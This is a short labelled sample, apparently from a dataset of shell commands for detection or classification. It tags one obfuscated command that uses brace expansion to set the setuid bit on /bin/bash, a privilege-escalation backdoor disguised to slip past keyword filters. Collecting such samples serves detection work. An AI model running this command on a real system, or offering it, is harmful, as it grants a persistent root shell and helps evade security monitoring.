# description: Sets the setuid bit on /bin/bash through brace expansion.
# family: security
# obfuscated: yes
{chmod,u+s,/bin/bash}
